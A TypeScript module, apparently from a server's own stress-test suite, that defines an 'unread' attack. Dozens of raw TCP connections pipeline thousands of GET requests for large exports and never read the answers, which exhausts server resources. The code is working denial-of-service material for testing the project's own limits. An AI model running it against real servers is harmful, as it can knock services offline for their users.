import { once } from "node:events";
import { connect } from "node:net";
import { sleep } from "../bench/row.ts";
import type { Against, Attack } from "./against.ts";
import { fillAudit } from "./fillAudit.ts";
import { fortnight, sendFortnight } from "./fortnight.ts";
import { openCounts } from "./register.ts";
import { bearer, type Visitor } from "./visitors.ts";

/** Each with all requests that it can write. */
const FAST = 8;
/** Each with as many requests as may wait, so that their answers are made; more than there may be unsent answers. */
const PATIENT = 32;
const AT_ONCE = 2_000;
/** As many as the server lets wait, and the one that is worked on. */
const MAY_WAIT = 17;
/** Changes that are written into the audit before, so that its export is large. */
const CHANGES = 3_000;
const MB = 1_000_000;

/** What is asked, and bytes that the answer has at least. */
function questions({ key, cookie }: Pick<Against, "key" | "cookie">) {
  const { from, until } = fortnight();
  const window = `from=${new Date(from).toISOString()}&to=${new Date(until).toISOString()}&step=minute`;
  const figures = `/v1/figures?metric=calls.offered,calls.answered,calls.abandoned&${window}`;
  const asKey = bearer(key);
  return [
    { path: figures, who: asKey, least: 5 * MB },
    { path: `${figures}&format=csv`, who: asKey, least: 4 * MB },
    { path: `${figures}&format=xlsx`, who: asKey, least: MB },
    { path: "/v1/audit?format=csv", who: { cookie }, least: 2 * MB },
    // The same for all.
    { path: "/v1/openapi.json", who: asKey, least: MB / 4 },
    { path: "/notices", who: asKey, least: MB / 4 },
  ];
}

/** HTTP allows requests before the answer to the one before has come: without a bound all of them are worked on. */
export const unread: Attack = {
  name: "unread",
  what: `${FAST} connections pipeline GETs of large answers as fast as they can, ${PATIENT} as many as may wait, and none reads`,
  async prepare(there) {
    await sendFortnight(there);
    await fillAudit(there, CHANGES);
    // A refusal would be small.
    for (const { path, who, least } of questions(there)) {
      const response = await fetch(there.url + path, { headers: who });
      const bytes = (await response.arrayBuffer()).byteLength;
      if (response.status !== 200 || bytes < least)
        throw new Error(`${path}: ${response.status} with ${bytes} bytes, not 200 with ${least} at least`);
    }
  },
  async run({ url, seconds, say, ...known }) {
    const asked = questions(known);
    const { hostname, port, host } = new URL(url);
    const until = performance.now() + seconds * 1_000;
    const counts = openCounts();
    let bytes = 0;
    async function pipeline(n: number, atOnce: number) {
      for (let i = n; performance.now() < until; i++) {
        const { path, who } = asked[i % asked.length]!;
        const requests = Buffer.from(requestOf(path, host, who).repeat(atOnce));
        const socket = connect(Number(port), hostname).pause();
        const closed = once(socket, "close").catch(() => {});
        socket.on("error", () => {});
        counts.add("connections");
        while (!socket.destroyed && performance.now() < until) {
          const hasRoom = socket.write(requests);
          bytes += requests.length;
          // A connection that was ended fails to write; one that is not written to is ended when it has not read.
          if (atOnce === MAY_WAIT) await Promise.race([closed, sleep(until - performance.now())]);
          else if (!hasRoom) await Promise.race([once(socket, "drain").catch(() => {}), sleep(1_000)]);
        }
        socket.destroy();
      }
    }
    await Promise.all([
      ...Array.from({ length: FAST }, (_, n) => pipeline(n, AT_ONCE)),
      ...Array.from({ length: PATIENT }, (_, n) => pipeline(n, MAY_WAIT)),
    ]);
    say(`${(bytes / MB).toFixed(1)} MB of requests over ${counts.text()}`);
  },
};

function requestOf(path: string, host: string, who: Visitor): string {
  const known = Object.entries(who).map(([name, value]) => `${name}: ${value}\r\n`);
  return `GET ${path} HTTP/1.1\r\nHost: ${host}\r\n${known.join("")}\r\n`;
}
